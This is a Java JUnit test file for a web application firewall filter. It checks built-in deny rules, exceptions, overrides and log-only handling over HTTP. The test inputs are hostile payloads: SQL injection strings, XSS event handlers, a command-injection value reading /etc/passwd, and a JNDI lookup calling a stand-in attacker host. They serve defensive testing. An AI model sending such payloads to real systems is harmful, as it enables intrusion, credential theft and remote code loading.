package dev.bulwark.servlet;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.bulwark.core.config.BulwarkConfig;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

/** The built-in deny rules with exceptions, overrides, custom rules and log-only keys, over real HTTP. */
class DenyRulesOverHttpTest extends FilterContainerTest {

    @Override
    BulwarkConfig config() {
        return BulwarkConfig.fromYaml("""
                limits: {body-size: 4KiB}
                deny-rules:
                  level: standard
                  log-only: [SCANNING]
                  exceptions:
                    - rule-keys: [SQL]
                      parameter: {name: {exact: password}, source: body}
                      when: {path: {prefix: /params-first/login}, methods: [POST]}
                  overrides:
                    - rule-keys: [XSS]
                      json: {pointer: {prefix: /preview}}
                      mode: log-only
                  custom-rules:
                    - id: NO-DEBUG
                      parameter: {name: {exact: debug}}
                """);
    }

    private HttpResponse<String> postJson(String path, String body) {
        return post(path, "application/json", body.getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void blocksUnionSelectInQueryParameter() {
        HttpResponse<String> response = get("/orders?id=" + encoded("1' UNION SELECT password FROM users--"));

        assertBlockedAndLogged(response, "SQL", "UNION", "password");
    }

    @Test
    void blocksEventHandlerInJsonValue() {
        HttpResponse<String> response = postJson("/comments", "{\"text\":\"<img src=x onerror=alert(1)>\"}");

        assertThat(response.statusCode()).isEqualTo(403);
    }

    @Test
    void blocksCommandInjectionInFormField() {
        assertThat(postForm("/ping", form("host", "127.0.0.1; cat /etc/passwd")).statusCode()).isEqualTo(403);
    }

    @Test
    void blocksJndiLookupInHeader() {
        HttpResponse<String> response = send(java.net.http.HttpRequest.newBuilder(uri("/"))
                .header("X-Api-Version", "${jndi:ldap://attacker.example/a}").GET());

        assertThat(response.statusCode()).isEqualTo(403);
    }

    @Test
    void exceptionLetsSqlLikePasswordThroughOnLogin() {
        HttpResponse<String> response = postForm("/params-first/login", form("user", "anna") + "&" + form("password", "x' OR '1'='1' --"));

        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(json(response.body()).get("parameters").get("password").get(0).asText()).isEqualTo("x' OR '1'='1' --");
    }

    @Test
    void exceptionDoesNotCoverOtherParameters() {
        assertThat(postForm("/params-first/login", form("user", "x' OR '1'='1' --")).statusCode()).isEqualTo(403);
    }

    @Test
    void exceptionDoesNotCoverOtherPaths() {
        assertThat(postForm("/register", form("password", "x' OR '1'='1' --")).statusCode()).isEqualTo(403);
    }

    @Test
    void overrideMakesXssLogOnlyInPreviewFields() {
        HttpResponse<String> response = postJson("/drafts", "{\"preview\":{\"html\":\"<svg onload=alert(1)>\"}}");

        assertThat(response.statusCode()).isEqualTo(200);
    }

    @Test
    void overrideLeavesOtherFieldsBlocking() {
        assertThat(postJson("/drafts", "{\"title\":\"<svg onload=alert(1)>\"}").statusCode()).isEqualTo(403);
    }

    @Test
    void customRuleBlocksDebugParameter() {
        assertThat(get("/orders?debug=true").statusCode()).isEqualTo(403);
    }

    @Test
    void logOnlyKeyLetsScannerSignaturePassAndLogsIt() {
        HttpResponse<String> response = send(java.net.http.HttpRequest.newBuilder(uri("/"))
                .header("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)").GET());

        assertThat(response.statusCode()).isEqualTo(200);
        JsonNode event = loggedEvent(response.body());
        assertThat(event.get("rule.category").asText()).isEqualTo("SCANNING");
        assertThat(event.get("event.action").asText()).isEqualTo("logged");
    }

    @Test
    void passesIrishSurnameAndEverydayPhrases() {
        HttpResponse<String> response = postForm("/profile", form("name", "Anna O'Brien") + "&"
                + form("note", "select your size; 1 or 2 items, drop-down menu <3") + "&"
                + form("email", "anna.obrien@example.com"));

        assertThat(response.statusCode()).isEqualTo(200);
    }

    @Test
    void passesMarkdownAndCodeSnippetInJson() {
        HttpResponse<String> response = postJson("/notes",
                "{\"body\":\"## Steps\\n1. Run `mvn verify`\\n2. Price is $5 + tax\\nSee https://example.com/docs?a=b&c=d\"}");

        assertThat(response.statusCode()).isEqualTo(200);
    }
}
